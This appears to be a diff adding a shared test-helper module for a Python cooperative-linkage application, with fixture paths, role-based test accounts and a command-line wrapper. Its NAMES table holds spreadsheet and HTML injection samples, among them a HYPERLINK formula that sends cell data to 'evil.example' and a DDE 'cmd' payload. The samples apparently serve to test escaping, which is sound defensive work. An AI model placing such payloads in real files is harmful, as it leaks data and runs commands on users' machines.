@@ -1,0 +1,58 @@
+"""What many test modules share: the fixtures' folders, the accounts of the Bắc Kạn fixture, and the
+`linkage` command run as another program runs it. Test modules import from here, never from each other."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+from sqlalchemy.engine import Engine
+
+from linkage.accounts.users import Actor
+
+HERE = Path(__file__).parent
+FIXTURE = HERE / "fixtures" / "bac_kan"  # hand-computed figures (tests/test_coverage.py)
+TWO_MAPS = HERE / "fixtures" / "two_maps"  # records given on either map or both
+WORKER = HERE / "concurrency_worker.py"  # a second process that writes while a test does
+
+# Accounts over the Bắc Kạn fixture: district 058 holds cooperative C1, raw material area A1 and
+# linkage L1; district 061 holds C4, C5 and linkage L4.
+ADMIN = Actor("admin", "admin")
+PLANNER_VN = Actor("minh", "planner", "VN")
+PLANNER_06 = Actor("hoa", "planner", "06")
+PLANNER_01 = Actor("tuan", "planner", "01")
+OFFICER_058 = Actor("lan", "officer", "058")
+C1_OFFICE = Actor("xa_pq", "officer", "01849", unit_map="2025-07")  # C1's commune today: it verifies C1
+OFFICER_061 = Actor("son", "officer", "061")
+COOP_C1 = Actor("htx_c1", "cooperative", cooperative_code="C1")
+COOP_C5 = Actor("htx_c5", "cooperative", cooperative_code="C5")
+
+# Names a spreadsheet or a browser would run if they were not shielded or escaped.
+NAMES = {
+    "K1": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+    "K2": "+1+cmd|' /C calc'!A0",
+    "K3": "-2+3",
+    "K4": "@SUM(A1:A9)",
+    "K5": "''=two quotes",
+    "K6": "'HTX có dấu nháy",
+    "K7": 'HTX Nà Phặc <b>đậm</b> & "Quê"',
+}
+
+
+def linkage(*args: str, env: dict[str, str] | None = None, stdin: str = "") -> subprocess.CompletedProcess[str]:
+    """The command line in its own process, in English unless `env` says otherwise."""
+    return subprocess.run(
+        [sys.executable, "-m", "linkage", *args],
+        input=stdin,
+        capture_output=True,
+        text=True,
+        env={**os.environ, "LINKAGE_LANG": "en", **(env or {})},
+        timeout=300,
+    )
+
+
+def url(engine: Engine) -> str:
+    """The database URL a command is given, password included."""
+    return engine.url.render_as_string(hide_password=False)
